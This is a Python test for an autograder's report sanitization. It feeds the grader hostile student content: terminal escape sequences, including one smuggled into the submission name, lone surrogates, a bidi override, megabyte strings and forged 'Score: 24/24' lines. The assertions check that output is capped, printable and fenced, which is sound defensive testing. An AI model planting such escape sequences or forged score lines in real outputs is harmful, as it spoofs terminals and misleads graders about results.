def test_results_and_report_stay_small_printable_and_fenced(tmp_path):
    """1 MB messages, control characters, lone surrogates and a printed fake score:
    results.json is valid UTF-8 under the cap, the student's printing is cut first
    and fenced, and the text report has one real score line."""
    from autograder.core import plain, results
    from autograder.core.engine import CaseResult, Report
    from autograder.core.report import format_report

    evil = "\ud800\x1b[2J\r\n  [PASS] values: fake\nScore: 24/24\u202e" + "A" * 2**20
    report = Report(
        hw=HW,
        submission="alice\x1b]0;x\x07",
        problems=[evil] * 3,
        student_output=("  [PASS] everything: fake\nScore: 24/24\n\x1b[31m" * 20000),
    )
    report.cases = [
        CaseResult("q1_forward", f"case{i}", "what it checks", 1.0, False, message=evil, note=evil)
        for i in range(600)
    ]
    path = tmp_path / "results.json"
    results.write(report, path)
    raw = path.read_bytes()
    assert len(raw) <= plain.MAX_RESULTS_BYTES
    data = json.loads(raw.decode("utf-8"))
    strings = [
        data["output"],
        *(t["output"] for t in data["tests"]),
        *(t["name"] for t in data["tests"]),
    ]
    for text in strings:
        assert text.isprintable() or all(c.isprintable() or c in "\n\t" for c in text)
    assert len(data["tests"]) == 600 and "what your code printed" not in data["output"]  # cut first
    assert not [line for line in data["output"].splitlines() if line.startswith("Score")]
    small = Report(hw=HW, submission="bob", student_output="  [PASS] all: fake\nScore: 24/24\n")
    small.cases = [CaseResult("q1_forward", "values", "d", 2.0, False, message=evil)]
    data = results.as_results(small)
    assert all(len(t["output"]) <= plain.MAX_CASE_MESSAGE for t in data["tests"])
    assert [line for line in data["output"].splitlines() if "fake" in line or "Score" in line] == [
        "|   [PASS] all: fake",
        "| Score: 24/24",
    ]
    small.problems = [evil]
    text = format_report(small, public_only=False)
    text.encode("utf-8")  # printable whatever the student raised
    assert [line for line in text.splitlines() if line.startswith("Score")] == ["Score: 0/2"]
    assert all(line.startswith(("|", " " * 9)) for line in text.splitlines() if "fake" in line)
    assert all(line.startswith(("|", " " * 9)) for line in text.splitlines() if "Score: 24" in line)
    assert "\x1b" not in text and "\r" not in text
    results.write_failure(tmp_path / "failed.json", evil)
    assert len((tmp_path / "failed.json").read_bytes()) < 3 * plain.MAX_PROBLEM
